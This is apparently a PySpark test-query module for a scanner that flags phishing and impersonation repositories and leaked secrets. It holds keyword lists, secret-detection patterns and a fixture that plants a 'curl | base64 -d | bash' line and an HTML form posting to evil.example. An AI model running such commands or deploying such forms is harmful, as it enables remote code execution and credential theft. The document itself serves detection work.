"""Queries of text, path, hash and date functions."""

from __future__ import annotations

from pyspark.sql import functions as F

from siltworks.functions import constants as K
from siltworks.functions import dates, extract, hashing, paths, secrets
from siltworks.functions import text as T
from siltworks.operators import units, views
from siltworks.plans.catalog import Tables, listed, query
from siltworks.sources import repos as source

# an entropy in SQL: bits of each distinct character of a text column v
ENTROPY = "list_sum([-(c / length({v})) * log2(c / length({v})) for c in [length({v}) - length(replace({v}, x, '')) for x in list_distinct(string_split({v}, ''))]])"
WORDS = "[w for w in string_split_regex(lower({t}), '[^a-z0-9]+') if length(w) >= 3]"


@query("line_units", "O30", """
select doc_id, line_number, line from (select doc_id, unnest(l) as line, generate_subscripts(l, 1) as line_number
from (select doc_id, string_split_regex(text, '\\r?\\n') as l from {documents}) x) y""")
def _(t):
    return units.exploded_lines(t("documents").select("doc_id", F.col("text").alias("content"))).select(
        "doc_id", F.col("line_number").cast("long").alias("line_number"), "line"
    )


@query(
    "text_blob",
    "O31",
    "select repo_id, lower(concat_ws(' ', full_name, description, language)) as t from {repositories}",
)
def _(t):
    return t("repositories").select(
        "repo_id", T.blob(F.col("full_name"), F.col("description"), F.col("language")).alias("t")
    )


@query("substring_terms", "O32", """
select repo_id, array_to_string([x for x in ['login', 'verification', 'wallet', 'payment', 'kyc', 'trading', 'support',
  'apk', 'mod', 'cracked', 'phishing', 'clone', 'bypass', 'free money', 'gift card', 'otp',
  '2fa bypass'] if contains(lower(concat_ws(' ', full_name, description)), x)], ',') as terms from {repositories}""")
def _(t):
    return t("repositories").select(
        "repo_id",
        F.array_join(T.terms_in(T.blob(F.col("full_name"), F.col("description")), K.SUSPICIOUS_KEYWORDS), ",").alias(
            "terms"
        ),
    )


@query("whole_terms", "O33", """
select repo_id, regexp_matches(lower(full_name), '(?:^|[^a-z0-9])clone(?:$|[^a-z0-9])') as clone,
  regexp_matches(lower(full_name), '(?:^|[^a-z0-9])machinery(?:$|[^a-z0-9])') as machinery from {repositories}""")
def _(t):
    low = F.lower("full_name")
    return t("repositories").select(
        "repo_id", T.has_term(low, "clone").alias("clone"), T.has_term(low, F.lit("machinery")).alias("machinery")
    )


@query("word_boundary", "O34 O110", """
select repo_id, regexp_matches(n, '(^|[^A-Za-z0-9])(?i:machinery)([^a-z0-9]|$)') or regexp_matches(n,
  '[a-z0-9]M(?i:achinery)([^a-z0-9]|$)') as name_hit,
  regexp_matches(n, '(^|[^A-Za-z0-9])(?i:app)([^a-z0-9]|$)') or regexp_matches(n,
    '[a-z0-9]A(?i:pp)([^a-z0-9]|$)') as app_hit from (select repo_id, full_name as n from {repositories}) x""")
def _(t):
    hit = lambda w: T.word_index(F.col("full_name"), F.lit(w)) >= 0
    return t("repositories").select("repo_id", hit("machinery").alias("name_hit"), hit("app").alias("app_hit"))


@query("first_alias", "O35", """
select repo_id, case when a then 'app' when k then 'kit' end as alias, case when a then strpos(lower(n), 'app') - 1
  when k then strpos(lower(n), 'kit') - 1 end as at from (
  select repo_id, full_name as n, regexp_matches(full_name, '[a-z0-9]App$') as a, regexp_matches(full_name,
    '[^a-z0-9]kit$') as k from {repositories}) x where a or k""")
def _(t):
    hit = T.first_alias(F.col("full_name"), F.array(F.lit("app"), F.lit("kit")))
    return t("repositories").withColumn("h", hit).where("h is not null").select(
        "repo_id", "h.alias", F.col("h.at").cast("long").alias("at")
    )


@query(
    "tokens",
    "O36",
    f"select repo_id, array_to_string({WORDS.format(t='full_name')}, ' ') as words from {{repositories}}",
)
def _(t):
    return t("repositories").select("repo_id", F.array_join(T.tokens(F.col("full_name")), " ").alias("words"))


@query("brand_grep", "O40", """
select doc_id as repo_id, line_number, case when a then 'the' else 'and' end as term from (
  select doc_id, line_number, regexp_matches(line, '(^|[^A-Za-z0-9])(?i:the)([^a-z0-9]|$)') or regexp_matches(line,
    '[a-z0-9]T(?i:he)([^a-z0-9]|$)') as a,
    regexp_matches(line, '(^|[^A-Za-z0-9])(?i:and)([^a-z0-9]|$)') or regexp_matches(line,
      '[a-z0-9]A(?i:nd)([^a-z0-9]|$)') as b
  from (select doc_id, unnest(l) as line, generate_subscripts(l, 1) as line_number
    from (select doc_id, string_split_regex(text, '\\r?\\n') as l from {documents}) x) y) z where a or b""")
def _(t):
    terms = t.rows([("the", 0), ("and", 1), ("of", 2)], "term string, ord int")
    return units.grep(documents(t), terms).select(
        "repo_id", F.col("line_number").cast("long").alias("line_number"), "term"
    )


def documents(t: Tables):
    return t("documents").select(
        F.col("doc_id").alias("repo_id"), F.lit("doc.txt").alias("path"), F.col("text").alias("content")
    )


@query("keyword_grep", "O41", """
select doc_id as repo_id, line_number, term
  from (select doc_id, unnest(l) as line, generate_subscripts(l, 1) as line_number
  from (select doc_id, string_split_regex(text, '\\r?\\n') as l from {documents}) x) y
join (values ('license'), ('tion')) k(term) on contains(lower(line), term)""")
def _(t):
    terms = t.rows([("license", 0), ("tion", 1), ("x", 2)], "term string, ord int")
    return units.grep(documents(t), terms, boundary=False).select(
        "repo_id", F.col("line_number").cast("long").alias("line_number"), "term"
    )


@query("secret_anchors", "O42", """
select doc_id as repo_id, count(*) as lines from (select doc_id, unnest(string_split_regex(text, '\\r?\\n')) as line
  from {documents}) y
where regexp_matches(line,
  '(?i)AKIA|ghp_|github_pat_|mongodb|PRIVATE KEY|AIza|sk_live_|xox|sk-ant-|SG\\.|postgres|mysql|api_key|token|secret|password') group by doc_id""")
def _(t):
    return units.secret_candidates(documents(t)).groupBy("repo_id").agg(F.count("*").alias("lines"))


@query(
    "keyword_dedupe",
    "O48",
    """
select ord, trim(keyword) as keyword from (select *, row_number() over (partition by lower(trim(keyword))
  order by ord) rn from {keywords} where trim(keyword) <> '') x where rn = 1""",
)
def _(t):
    return T.first_spellings(t("keywords"), "keyword", "ord").select("ord", "keyword")


@query("proximity_units", "O49", """
select repo_id, count(*) + case when repo_id % 9 < 2 then 2 else 1 end + case when repo_id % 10 = 0 then 3
  else 0 end as units, count(line) filter (where regexp_matches(lower(line), '[^a-z]support[^a-z]')) as hits from (
  select repo_id, full_name as line from {repositories} union all select repo_id, description from {repositories}
    where description is not null
  union all select doc_id, unnest(string_split_regex(text, '\\r?\\n')) from {documents} where doc_id in (select repo_id
    from {repositories})) x where line <> '' group by repo_id""")
def _(t):
    rows = units.text_units(context(t))
    return rows.groupBy("repo_id").agg(
        F.count("*").alias("units"), F.count_if(F.lower("text").rlike("[^a-z]support[^a-z]")).alias("hits")
    )


def context(t: Tables):
    """The context table: a document is the README of the repository of its number."""
    r, none = t("repositories"), "cast(array() as array<{}>)"
    readme = t("documents").select(F.col("doc_id").alias("repo_id"), F.col("text").alias("readme_text"))
    rows = r.join(readme, "repo_id", "left").join(brands(t), "brand_id", "left")
    return rows.withColumns({
        "name": F.element_at(F.split("full_name", "/"), -1), "topics": F.expr(none.format("string")), "readme_path": F.lit("README.md"), "public_repos": F.lit(3).cast("long"),
        "owner_created_at": F.col("created_at"), "file_paths": F.expr("if(repo_id % 9 = 0, array('app/release.apk', 'vercel.json'), if(repo_id % 9 = 1, array('run.ps1', 'src/Procfile'), array('README.md')))"),
        "files": F.expr("if(repo_id % 10 = 0, array(named_struct('path', 'a.sh', 'content', 'x\\ncurl y | base64 -d | bash'), named_struct('path', 'p.html', 'content', '<form action=\"https://evil.example/a\">')), "
                        "cast(array() as array<struct<path:string,content:string>>))"),
        "brand": F.when(F.col("brand_name").isNotNull(), F.struct(F.col("brand_name").alias("name"), "aliases", "keywords", "trusted_owners")),
    })


def brands(t: Tables):
    return t("brands").withColumns({c: listed(c) for c in ("aliases", "keywords", "trusted_owners")})


# kinds of the paths view, in order: what the priority and the content class of each is
PRIORITIES = "[100, 100, 95, 95, 93, 92, 90, 88, 82, 85, 84, 80, 78, 75, 70, 60, 40, 40, 0, 40, 40, 0, 0, 0]"
CONTENT = "['', '', '', '', '', '', '', '', '', '', '', '', '', '', 'docs', 'locale', '', '', 'template', 'legal', 'docs', '', '', 'locale']"


@query("sampled_files", "O25", f"""
select repo_id, path, turn from (select repo_id, path, row_number() over (partition by repo_id
  order by ranked desc, case when ranked then p end desc, case when ranked then path end, ord) as turn from (
  select ord % 10 as repo_id, path, ord, {PRIORITIES}[kind + 1] as p, kind not in (3, 18, 21, 22, 23, 7, 10) as ranked
    from {{paths}}) x) y where turn <= 8""")
def _(t):
    rows = paths.sampled(t("paths").withColumn("repo_id", F.col("ord") % 10), 8, F.array(F.lit("Machinery")))
    return rows.select("repo_id", "path", F.col("turn").cast("long").alias("turn"))


@query("capped_paths", "O3 O136", """
select repo_id, path, turn from (select ord % 5 as repo_id, path, row_number() over (partition by ord % 5
  order by path) as turn from (select path, min(ord) as ord from {paths} group by path) p) x where turn <= 3""")
def _(t):
    rows = t("paths").groupBy("path").agg(F.min("ord").alias("ord")).withColumn("repo_id", F.col("ord") % 5)
    return paths.capped(rows, 3, "repo_id").select("repo_id", "path", F.col("turn").cast("long").alias("turn"))


@query(
    "tree_listing",
    "O3",
    """
select repo_id, path from (select ord % 3 as repo_id, path, row_number() over (partition by ord % 3
  order by ord) as turn from {paths} where not contains(path, '/')) x where turn <= 800""",
)
def _(t):
    return source.listed(t("paths").withColumn("repo_id", F.col("ord") % 3), root_only=True).select("repo_id", "path")


@query("readable_files", "O4 O5", "select doc_id from {documents} where strlen(text) <= 4000 and doc_id % 3 > 0")
def _(t):
    d = t("documents").withColumn("path", F.expr("if(doc_id % 3 = 0, 'dist/a.txt', 'src/a.txt')")).withColumnRenamed(
        "text", "content"
    )
    return source.readable(d, 4000).select("doc_id")


@query(
    "search_pages",
    "O1",
    """
select query, event_id from (select event_type as query, event_id, row_number() over (partition by event_type
  order by event_id) as turn from {events}) x where turn > 60 and turn <= 90""",
)
def _(t):
    hits = t("events").select(F.col("event_type").alias("query"), "event_id", F.col("event_id").alias("hit_ord"))
    return source.search_page(hits, 3, 30).select("query", "event_id")


@query("code_hits_to_repositories", "O2", """
select repo_id, arg_min(path, hit_ord) as matched_path
  from (select o_custkey as repo_id, case when o_orderkey % 7 > 0 then 'f' || o_orderkey end as full_name,
  o_orderkey as hit_ord, 'p' || o_orderkey as path
from {orders}) x where full_name is not null group by repo_id""")
def _(t):
    hits = t("orders").selectExpr(
        "o_custkey as repo_id",
        "case when o_orderkey % 7 > 0 then concat('f', o_orderkey) end as full_name",
        "'o' as owner",
        "o_orderkey as hit_ord",
        "concat('p', o_orderkey) as path",
    )
    return source.repositories_of(hits).select("repo_id", "matched_path")


def patches(lines):
    return lines.selectExpr(
        "l_orderkey as repo_id", "l_linenumber as commit_ord", "md5(cast(cast(l_partkey as string) as binary)) as sha", "concat('f', l_linenumber) as path",
        "concat('--- a\\n+++ b\\n+new ', l_partkey, '\\n-old\\n same\\n+x') as patch",
    )


@query("added_lines", "O8", "select o_orderkey, 'new ' || o_orderkey || chr(10) || 'x' as content from {orders}")
def _(t):
    patch = F.concat(F.lit("--- a\n+++ b\n+new "), F.col("o_orderkey").cast("string"), F.lit("\n-old\n same\n+x"))
    return t("orders").select("o_orderkey", source.added_lines(patch).alias("content"))


@query(
    "contributors_without_bots",
    "O9",
    """
select login, case when contributions % 2 = 0 then 0 else contributions end as contributions from {contributors}
  where contributions % 5 > 0 and contributions % 3 > 0""",
)
def _(t):
    c = t("contributors").selectExpr("case when contributions % 5 > 0 then login end as login", "case when contributions % 3 = 0 then 'Bot' when contributions % 7 = 0 then null else 'User' end as type",
                                     "case when contributions % 2 = 0 then null else contributions end as contributions")
    return source.people(c).select("login", "contributions")


@query("latest_deployment", "O10", """
select f.repo_id, coalesce(r.homepage, arg_max('https://d' || f.finding_id, f.finding_id)) as url from {findings} f
  join {repositories} r on r.repo_id = f.repo_id group by f.repo_id, r.homepage""")
def _(t):
    d = t("findings").selectExpr(
        "repo_id",
        "'prod' as environment",
        "concat('https://d', finding_id) as url",
        "severity as state",
        "finding_id as at",
    )
    return source.deployment(d, t("repositories")).select("repo_id", "url")


@query(
    "remote_heads",
    "O95 O96",
    """
select r_regionkey, sha1(r_name) as sha, 'main' || r_regionkey as branch, r_regionkey % 2 = 0 as safe from {region}""",
)
def _(t):
    listing = F.concat(
        F.lit("ref: refs/heads/main"),
        F.col("r_regionkey").cast("string"),
        F.lit("\tHEAD\n"),
        F.sha1(F.col("r_name").cast("binary")),
        F.lit("\tHEAD\n"),
    )
    head = source.remote_head(listing)
    name = F.when(F.col("r_regionkey") % 2 == 0, head["default_branch"]).otherwise(
        F.concat(F.lit("-"), head["default_branch"])
    )
    return t("region").select(
        "r_regionkey",
        head["sha"].alias("sha"),
        head["default_branch"].alias("branch"),
        paths.safe_branch(name).alias("safe"),
    )


@query("own_work", "O166", "select owner, count(*) as n from {repositories} where not is_fork group by owner")
def _(t):
    return source.own_work(t("repositories")).groupBy("owner").agg(F.count("*").alias("n"))


@query("entropy", "O71", f"select p_partkey, round({ENTROPY.format(v='p_name')}, 6) as bits from {{part}}")
def _(t):
    return t("part").select("p_partkey", F.round(secrets.entropy(F.col("p_name")), 6).alias("bits"))


@query("secret_predicates", "O72", f"""
select k, v, regexp_matches(v,
  '(?i)^(?:changeme|password|secret|example|xxxxx*|your[_-]?|dummy|test|todo|fixme|xxx+|sample|placeholder)') as placeholder, regexp_matches(v, '^[a-z]+\\.[a-z_]+$') as code,
  length(v) >= 20 and not regexp_matches(v, '^test|^[a-z]+\\.[a-z_]+$|^0+$') and {ENTROPY.format(v="v")} >= 3.5 as high
from (select p_partkey as k, case p_partkey % 4 when 0 then md5(p_name || p_partkey) when 1 then 'test' || md5(p_name)
  when 2 then 'settings.' || replace(p_name, ' ', '_') else repeat('0', 24) end as v from {{part}}) x""")
def _(t):
    v = F.expr(
        "case p_partkey % 4 when 0 then md5(cast(concat(p_name, p_partkey) as binary)) when 1 then concat('test', md5(cast(p_name as binary))) when 2 then concat('settings.', replace(p_name, ' ', '_')) else repeat('0', 24) end"
    )
    rows = t("part").select(F.col("p_partkey").alias("k"), v.alias("v"))
    return rows.select(
        "k",
        "v",
        secrets.is_placeholder(F.col("v")).alias("placeholder"),
        secrets.is_code_reference(F.col("v")).alias("code"),
        secrets.is_high_entropy(F.col("v")).alias("high"),
    )


@query("redact", "O73 O74", """
select p_partkey, substr(h, 1, 4) || '…[REDACTED]…' || substr(h, -4) as long_value, substr(p_brand, 1,
  2) || '…[REDACTED]' as short_value,
  'see api_key=' || substr(h, 1, 4) || '…[REDACTED]…' || substr(h, -4) || ' and AKIA…[REDACTED]…' || substr(upper(h),
    13, 4) || ' at postgres://***:***@[REDACTED] end' as redacted
from (select p_partkey, p_brand, md5(p_name || p_partkey) as h from {part}) x""")
def _(t):
    h = F.md5(F.concat("p_name", F.col("p_partkey").cast("string")).cast("binary"))
    text = F.concat(
        F.lit("see api_key: "),
        h,
        F.lit(" and AKIA"),
        F.substring(F.upper(h), 1, 16),
        F.lit(" at postgres://u:p@h/db end"),
    )
    return t("part").select(
        "p_partkey",
        secrets.redacted(h).alias("long_value"),
        secrets.redacted(F.col("p_brand")).alias("short_value"),
        secrets.redacted_text(text).alias("redacted"),
    )


@query(
    "content_hash",
    "O76",
    """
select doc_id, sha256(regexp_replace(replace(text || '  ' || chr(10) || 'x', chr(13) || chr(10), chr(10)),
  '[ \\t]+(\\n|$)', '\\1', 'g')) as hash from {documents}""",
)
def _(t):
    return t("documents").select("doc_id", hashing.content_hash(F.concat("text", F.lit("  \nx"))).alias("hash"))


@query("winnowed_fingerprints", "O75 O77", """
with w as (select doc_id, regexp_extract_all(text, '[A-Za-z0-9_]+|[^\\sA-Za-z0-9_]') as w from {documents}),
h as (select doc_id, [substr(sha256(array_to_string(w[s : s + 24], chr(1))), 1, 16) for s in range(1, greatest(1,
  len(w) - 24) + 1)] as h from w where len(w) > 0),
f as (select doc_id, list_distinct(case when len(h) <= 4 then h else [list_min(h[s : s + 3]) for s in range(1,
  greatest(1, len(h) - 3) + 1)] end) as f from h)
select doc_id, cast(len(f) as int) as n, sha256(array_to_string(list_sort(f), ',')) as digest from f""")
def _(t):
    return winnowed(t).select(
        "doc_id", F.size("hashes").alias("n"), F.sha2(F.array_join(F.array_sort("hashes"), ","), 256).alias("digest")
    )


def winnowed(t: Tables, name: str = "documents", key: str = "doc_id"):
    return t(name).select(key, hashing.fingerprints(F.col("text")).alias("hashes")).where(F.size("hashes") > 0)


@query("url_hosts", "O69", "select page_id, lower(regexp_extract(url, '^https?://([^/?#]+)', 1)) as host from {pages}")
def _(t):
    return t("pages").select("page_id", extract.host(F.col("url")).alias("host"))


@query("keys_and_hashes", "O66 O80 O83", """
select p_partkey, substr(sha256(p_partkey || ':main:rule-a,rule-a,rule-b'), 1, 32) as finding,
  substr(sha256(p_partkey || ':rule-b'), 1, 32) as single, sha256('code:' || p_name) as query,
  substr(sha256('1:a,b,c'), 1, 16) as version, sha256(p_name) as known from {part}""")
def _(t):
    rules = F.array(F.lit("rule-b"), F.lit("rule-a"), F.lit("rule-a"))
    return t("part").select(
        "p_partkey", hashing.finding_key(F.col("p_partkey"), rules, F.lit("main")).alias("finding"), hashing.finding_key(F.col("p_partkey"), F.array(F.lit("rule-b"))).alias("single"),
        hashing.query_hash(F.lit("code"), F.col("p_name")).alias("query"), hashing.ruleset_version(F.lit("1"), F.array(*map(F.lit, "cab"))).alias("version"), hashing.known_value(F.col("p_name")).alias("known"),
    )


@query("config_hashes", "O81 O82", """
select p_partkey, substr(sha256('{"brands":[1,2],"mode":"' || p_type || '"}'), 1, 24) as config,
  sha256('{"a":' || p_size || '}v1') as context from {part}""")
def _(t):
    config = F.struct(F.array_sort(F.array(F.lit(2), F.lit(1))).alias("brands"), F.col("p_type").alias("mode"))
    return t("part").select(
        "p_partkey",
        hashing.config_hash(config).alias("config"),
        hashing.context_hash(F.struct(F.col("p_size").alias("a")), "v1").alias("context"),
    )


@query("range_qualifiers", "O87 O88", """
select o_orderkey, case o_orderkey % 4 when 0 then 'created:' || s || '..2020-01-01' when 1 then 'created:>=' || s
  when 2 then 'created:<=2020-01-01' end as q,
  case when o_orderkey % 4 in (0, 1) and s < '2008-01-01' then 'start predates the host' end as problem
    from (select o_orderkey, strftime(o_orderdate, '%Y-%m-%d') as s from {orders}) x""")
def _(t):
    k = F.col("o_orderkey") % 4
    start = F.when(k < 2, dates.normal_date(F.col("o_orderdate").cast("string")))
    stop = F.when(k.isin(0, 2), dates.normal_date(F.lit(" 2020-01-01 ")))
    return t("orders").select(
        "o_orderkey",
        dates.qualifier("created", start, stop).alias("q"),
        dates.range_error(start, stop, "2026-01-01").alias("problem"),
    )


@query("bounded_ranges", "O88", """
select q, made
  from (values ('a created:>=2020-01-01 b', 'a created:2020-01-01..2099-12-31 b'), ('created:<=2020-01-01',
  'created:2008-01-01..2020-01-01'),
  ('x', 'x created:2008-01-01..2099-12-31'), ('created:2019-01-01..2020-01-01', 'created:2019-01-01..2020-01-01')) t(q,
    made)""")
def _(t):
    rows = t.rows(
        [("a created:>=2020-01-01 b",), ("created:<=2020-01-01",), ("x",), ("created:2019-01-01..2020-01-01",)],
        "q string",
    )
    return rows.select("q", dates.bounded(F.col("q")).alias("made"))


@query("language_splits", "O89", """
select p_partkey, case when g = 9
  then p_name || ' -language:JavaScript -language:TypeScript -language:Python -language:Java -language:Go -language:PHP -language:Ruby -language:Shell'
  else p_name || ' language:' || ['JavaScript', 'TypeScript', 'Python', 'Java', 'Go', 'PHP', 'Ruby',
    'Shell'][g] end as q from {part}, range(1, 10) r(g)""")
def _(t):
    return t("part").select("p_partkey", F.explode(dates.by_language(F.col("p_name"))).alias("q"))


@query(
    "date_variants",
    "O137",
    """
select mode, q
  from (values ('and', 'created:>=2020-01-01 pushed:<=2021-01-01'), ('or', 'created:>=2020-01-01'), ('or',
  'pushed:<=2021-01-01'), ('one', 'created:>=2020-01-01')) t(mode, q)""",
)
def _(t):
    c, p = F.lit("created:>=2020-01-01"), F.lit("pushed:<=2021-01-01")
    sides = [
        ("and", dates.qualifier_variants(c, p)),
        ("or", dates.qualifier_variants(c, p, "or")),
        ("one", dates.qualifier_variants(c, F.lit(None).cast("string"), "or")),
    ]
    one = t.spark.range(1)
    out = [one.select(F.lit(m).alias("mode"), F.explode(v).alias("q")) for m, v in sides]
    return out[0].union(out[1]).union(out[2])


@query(
    "display_dates",
    "O94",
    """
select o_orderkey, strftime(o_orderdate, '%-d %B %Y') as day, strftime(o_orderdate, '%H:%M') as clock from {orders}""",
)
def _(t):
    return t("orders").select(
        "o_orderkey",
        dates.display_date(F.col("o_orderdate")).alias("day"),
        dates.display_time(F.col("o_orderdate")).alias("clock"),
    )


@query(
    "backoff_bounds",
    "O97",
    "select attempt, cast(least(30000, 500 * pow(2, attempt)) as bigint) as most from range(0, 12) r(attempt)",
)
def _(t):
    return t.spark.range(12).select(
        F.col("id").alias("attempt"), dates.backoff_bound(F.col("id"), 500, 30_000).alias("most")
    )


@query("char_budget", "O92", """
select doc_id, substr(text, 1, cast(greatest(0, 20000 - before) as bigint)) as taken from (
  select doc_id, text, coalesce(sum(length(text)) over (partition by source
    order by doc_id rows between unbounded preceding and 1 preceding), 0) as before from {documents}) x
    where before < 20000 and text <> ''""")
def _(t):
    return paths.within_budget(t("documents"), "source", "doc_id", "text", 20_000).select("doc_id", "taken")


@query(
    "commit_search_urls",
    "O175",
    """
select 'https://host.example/search?q=author%3A' || login || '&type=commits' as url from (select distinct login
  from {contributors}) x""",
)
def _(t):
    return t("contributors").select(
        views.commit_search_url("https://host.example", F.col("login")).alias("url")
    ).distinct()
